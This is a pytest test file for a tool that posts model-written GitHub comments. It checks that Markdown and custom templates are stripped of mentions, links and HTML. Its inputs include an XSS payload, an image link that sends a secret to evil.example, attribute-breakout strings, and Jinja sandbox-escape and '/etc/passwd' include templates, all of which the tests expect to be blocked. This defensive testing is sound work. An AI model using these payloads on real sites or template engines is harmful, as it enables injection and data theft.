"""Markdown that is safe to post."""

import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from cmarkgfm import github_flavored_markdown_to_html
from cmarkgfm.cmark import Options
from hypothesis import given
from hypothesis import strategies as st

from hubpipe.decide import CommentEffect, Findings, Plan
from hubpipe.errors import TemplateError
from hubpipe.event import Event, Subject
from hubpipe.models.base import ModelInfo, Prediction, Score, Scores, Span, Spans, Text
from hubpipe.render import COMMENT_LIMIT, Context, check_template, is_own, marker, write
from hubpipe.render.neutral import code, neutralise
from hubpipe.text import Fitted

EVENT = Event("issues", "opened", "octo-org/octo-repo", Subject("issue", 7, "@octocat <b>title</b>", "body"))
INFO = ModelInfo("sentence-transformers", "org/name", "0123456789abcdef" * 2, "summarization", None)
CONTEXT = Context("pr-summary", EVENT, (INFO,), Fitted("text", 10, 20, ("patch", "comments")), ("files: too many",))
MENTION = re.compile(r"@\w")
REFERENCE = re.compile(r"#\d|gh-\d", re.IGNORECASE)


class Page(HTMLParser):
    """What GitHub's own parser makes of Markdown: the tags, and the text that mentions are looked for in."""

    def __init__(self, markdown: str):
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""
        self._code = 0
        self.feed(github_flavored_markdown_to_html(markdown, Options.CMARK_OPT_UNSAFE))
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self._code += tag == "code"

    def handle_endtag(self, tag: str) -> None:
        self._code -= tag == "code"

    def handle_comment(self, data: str) -> None:
        self.tags.add("<!--")

    def handle_data(self, data: str) -> None:
        self.text += data if not self._code else " "


def harmless(markdown: str, *tags: str) -> bool:
    """Whether there is nothing but text, code and the given tags, and nobody is called."""
    page = Page(markdown)
    strange = page.tags - {"p", "code", *tags}
    return not (strange or MENTION.search(page.text) or REFERENCE.search(page.text))


def findings(prediction: Prediction) -> Findings:
    match prediction:
        case Text():
            return Findings(text=prediction)
        case Spans(spans):
            return Findings(spans=spans)
        case _:
            return Findings()


def body(prediction: Prediction, template: str | None = None, chosen: tuple[Score, ...] = ()) -> str:
    plan = write(Plan((CommentEffect("pr-summary", template),), chosen), findings(prediction), CONTEXT)
    [effect] = plan.effects
    assert isinstance(effect, CommentEffect)
    return effect.body


@pytest.mark.parametrize(
    "text",
    [
        "@octocat and @org/team, please",
        "fixes #12, closes octo/repo#3 and GH-4 and gh-5",
        "<b>bold</b> <!-- hidden --> <img src=x onerror=alert(1)>",
        "![](https://evil.example/?q=secret) [click](https://evil.example) https://evil.example www.evil.example",
        "# heading",
        "- item",
        "1. item",
        "> quotation",
        "| a | b |",
        "``` fence",
        "---",
        "&lt;script&gt; &#64;octocat &#35;12",
        "`` `@octocat` ` @octocat",
        "user@example.com",
        "\\@octocat \\# \\<b>",
        "@` `octocat closes #` `12, https:` `//evil.example",
        "_www.evil.com W_www.evil.com",
        "_GH-1 éGH-1",
        "a@-b.com .@.g @_",
        "owner/repo@1234567",
    ],
)
def test_no_markup_mention_reference_or_link_survives(text: str) -> None:
    assert harmless(neutralise(text)), Page(neutralise(text)).text


@given(st.text(alphabet=st.sampled_from("@#1ag-`*_[]()<>!&;:/\\|~ \n\"'.x$=+"), max_size=60))
def test_whatever_is_written_stays_text_and_code(text: str) -> None:
    assert harmless(neutralise(text))
    assert harmless("- " + neutralise(text), "ul", "li")


@given(st.text(max_size=200))
def test_any_text_becomes_one_line(text: str) -> None:
    assert "\n" not in neutralise(text)
    neutralise(text).encode("utf-8")


def test_words_keep_their_meaning() -> None:
    assert neutralise("The writer now keeps `one_decoder` for the export.") == (
        "The writer now keeps `one_decoder` for the export."
    )
    assert neutralise("שלום 🎉 नमस्ते") == "שלום 🎉 नमस्ते"


def test_invisible_and_bidirectional_characters_go() -> None:
    assert neutralise("a\u202eb\u200bc\u2066d\ufeff\x00e\U000e0041") == "abcde"


def test_a_line_is_cut_at_a_thousand_characters_and_says_so() -> None:
    assert neutralise("x" * 5000) == "x" * 1000 + "…"


def test_code_cannot_be_left_from_within() -> None:
    for text in ("a`b", "``", "`", "a``b`c", "`@octocat"):
        assert Page(code(text)).tags == {"p", "code"}
        assert not Page(code(text)).text.strip()


def test_a_summary_is_a_list_under_the_flows_marker() -> None:
    written = body(Text("First sentence for @octocat.\nSecond, fixes #1."))
    assert written.startswith(
        "<!-- hubpipe: flow=pr-summary -->\n### Summary\n\n- First sentence for @&#8203;octocat.\n"
    )
    assert "- Second, fixes #&#8203;1." in written


def test_the_footer_says_which_model_read_how_much_and_what_not() -> None:
    written = body(Text("A sentence."))
    assert "with `sentence-transformers:org/name@0123456789ab`, not by a person" in written
    assert "read 10 of 20 tokens, not all of: patch, comments · not read: files: too many ·" in written
    assert "turns it off" in written


def test_a_pull_requests_summary_tells_its_size() -> None:
    subject = Subject("pull_request", 7, "Title", "body", changed_files=2, additions=10, deletions=3)
    context = replace(CONTEXT, event=replace(EVENT, subject=subject))
    [effect] = write(Plan((CommentEffect("pr-summary"),)), Findings(text=Text("A sentence.")), context).effects
    assert isinstance(effect, CommentEffect)
    assert "### Summary of 2 changed files (+10 −3)" in effect.body


def test_labels_and_spans_are_shown_with_their_scores() -> None:
    assert "**Found:** `bug` (0.93)" in body(Scores((Score("bug", 0.93),)), chosen=(Score("bug", 0.93),))
    assert "- version: `1.2|x` (0.50)" in body(Spans((Span("version", 0, 5, "1.2|x", 0.5),)))


@pytest.mark.parametrize(
    "template",
    [
        "{{ subject.title }} {{ summary[0] }} {{ summary }} {{ summary[0] | safe }} {{ summary[0] | code }}",
        "{{ summary[1] }}{{ summary[2] }} {{ summary[3] }}{{ summary[4] }} {{ summary[1] ~ summary[2] }}",
        "{{ summary[5] | code }}{{ summary[6] | code }} {{ summary[5] }}{{ summary[6] }}",
        "{{ summary | join('') }} {{ summary | join('') | code }} {{ summary[0] | tojson }}",
        "{{ summary[0] | striptags }} {{ summary[0] | wordwrap(3) }} {{ summary[0] | truncate(5) }}",
        "{{ summary[0] | urlize }} {{ summary[0] | replace('b', '@') }} {{ '%s' | format(summary[0]) }}",
        "{% set x = summary[0] %}{{ x }}{% for line in summary %}{{ line }}{% endfor %}",
        "<details><summary>S</summary>\n{{ summary }} {{ summary[7] | code }}\n</details>",
        "<p align=center>\n{{ summary | join(' ') }}\n</p>",
        "| a | b |\n|---|---|\n| {{ summary[7] }} | {{ summary[7] | code }} |\n| {{ summary[8] }} | x |",
        "{{ summary[10] }} {{ summary[10] | code }} <pre>{{ summary[10] }}</pre>",
        "<!-- {{ summary | join(' ') }} {{ summary[9] | code }} -->",
        "see <a title=\"{{ summary[11] }}\">this</a> <a title='{{ summary[11] }}'>this</a>",
    ],
)
def test_a_custom_template_gets_every_value_neutralised(template: str) -> None:
    lines = ["<b>@octocat</b> <!-- hubpipe: flow=x -->", "thanks @", "octocat", "fixes #", "12", "a` @octocat", "`b #1"]
    lines += ["run `@octocat <img src=//evil.example/x>` now", "run `a|@octocat` a|b", "`-->` @octocat <b>"]
    lines += ["see `https://evil.example` and `www.evil.example a@evil.example`"]
    lines += ["x\" href=\"//evil.example/ ' href='//evil.example"]
    written = body(Text("\n".join(lines)), template).removeprefix(marker("pr-summary"))
    own = {"details", "summary", "table", "thead", "tbody", "tr", "th", "td", "pre", "a", "<!--"}
    assert harmless(written, *own)
    assert Page(written).attributes <= {"align", "title"}
    assert "img" not in Page(written).tags


def test_a_commits_sha_is_no_link() -> None:
    sha = "0123456789abcdef0123456789abcdef01234567"
    parted = "&#8203;".join(sha[start : start + 4] for start in range(0, 40, 4))
    assert neutralise(f"see {sha} and aaaa1234567") == f"see {parted} and aaaa&#8203;1234&#8203;567"
    assert neutralise("faced 2024 123456") == "faced 2024 123456"


@pytest.mark.parametrize(
    ("template", "message"),
    [
        ("{% if %}", "line 1: Expected an expression"),
        ("{{ sumary }}", "'sumary' is undefined; it may use"),
        ("{{ ''.__class__.__mro__ }}", "unsafe"),
        ("{{ summary[0].__class__ }}", "unsafe"),
        ("{{ summary.append(1) }}", "line 1: a comment template has"),
        ("{{ ('{}' | code).format(summary[0]) }}", "line 1: a comment template has"),
        ("{% include '/etc/passwd' %}", "line 1: a comment template has"),
        ("{% filter striptags %}{{ summary[0] }}{% endfilter %}", "line 1: a comment template has"),
        ("{% macro x() %}{{ x() }}{% endmacro %}{{ x() }}", "line 1: a comment template has"),
        ("\n{% set x %}a{% endset %}", "line 2: a comment template has"),
        ("{{ '%(x)s' | format(y=1) }}", "'x'; it may use"),
        ("{{ summary | xmlattr }}", "comment template of flow pr-summary"),
        ("x \ud800", "surrogates not allowed"),
        ("{% for i in range(90000) %}line{% endfor %}", "GitHub takes 65,536"),
        ("{% for i in range(10**9) %}x{% endfor %}", "Range too big"),
        ("{{ 1 / 0 }}", "division by zero"),
    ],
)
def test_a_template_that_is_wrong_or_reaches_out_is_refused_by_name(template: str, message: str) -> None:
    with pytest.raises(TemplateError, match=re.escape(message)):
        body(Text("A sentence."), template)


@pytest.mark.parametrize("template", ["a\n{% for %}", "{{ sumary }}", "{{ summary | nofilter }}"])
def test_a_template_can_be_checked_beforehand(template: str) -> None:
    with pytest.raises(TemplateError, match=r"^flows\.x"):
        check_template(template, "flows.x")
    check_template("{{ summary }} {{ labels[0].label }} {{ spans[0].text }} {{ subject.author }}", "flows.x")


def test_a_comment_never_passes_githubs_limit_and_keeps_its_footer() -> None:
    for line in ("word " * 190, "@#1" * 300, "&" * 900):
        written = body(Text("\n".join(line for _ in range(300))))
        assert len(written) <= COMMENT_LIMIT
        assert "Shortened: this is not all of it." in written
        assert "turns it off</sub>" in written


def test_own_comments_are_known_by_their_first_line() -> None:
    assert is_own(body(Text("A sentence.")))
    assert not is_own("I quote: " + marker("x"))


def test_a_long_line_is_parted_and_none_of_it_is_lost() -> None:
    words = [f"word{place}" for place in range(600)]
    written = body(Text(" ".join(words)))
    assert all(word in written for word in words)
    assert "Shortened" not in written


def test_labels_behind_a_summary_stand_apart_from_its_list() -> None:
    effect = CommentEffect("kind")
    plan = Plan((effect,), (Score("bug", 0.9),))
    [written] = write(plan, Findings(text=Text("A sentence.")), CONTEXT).effects
    assert isinstance(written, CommentEffect)
    assert "- A sentence.\n\n**Found:** `bug` (0.90)" in written.body


def test_what_was_found_many_times_is_shown_once_with_its_highest_score() -> None:
    spans = tuple(Span("version", place, place + 5, "1.2.3", score) for place, score in ((0, 0.5), (9, 0.9), (20, 0.7)))
    written = body(Spans(spans))
    assert written.count("- version: `1.2.3`") == 1
    assert "- version: `1.2.3` (0.90)" in written


def test_an_answer_of_several_lines_is_shown_line_by_line() -> None:
    section = "1. Make an archive.\n\n```sh\nocto read @octocat #7\n```\n"
    shown = body(Spans((Span("steps", 0, len(section), section, 0.9), Span("version", 60, 63, "2.4", 0.5))))
    steps = "- steps (0.90):\n  - 1\\. Make an archive.\n  - octo read @&#8203;octocat #&#8203;7\n"
    assert f"{steps}- version: `2.4` (0.50)\n\n<sub>" in shown
    assert harmless(shown, "ul", "li", "strong", "sub", "<!--")


def test_of_a_very_long_answer_the_first_lines_are_shown_and_the_rest_is_counted() -> None:
    section = "\n".join(f"line {number}" for number in range(1, 31))
    shown = body(Spans((Span("steps", 0, len(section), section, 0.9),)))
    assert "  - line 12\n  - … and 18 more lines\n" in shown
    assert "line 13" not in shown


def test_only_the_fences_of_an_answer_are_left_out_not_prose_that_begins_like_one() -> None:
    section = "```npm run x``` fails\n~~~strike~~~ is fine\n```sh title=x\nnpm run y\n```\n  ~~~~ text\nz\n~~~~"
    shown = body(Spans((Span("steps", 0, len(section), section, 0.9),)))
    lines = [line.removeprefix("  - ") for line in shown.splitlines() if line.startswith("  - ")]
    assert Page("\n\n".join(lines)).text.split() == ["fails", "~~~strike~~~", "is", "fine", "npm", "run", "y", "z"]
    assert lines[0] == "`npm run x` fails"
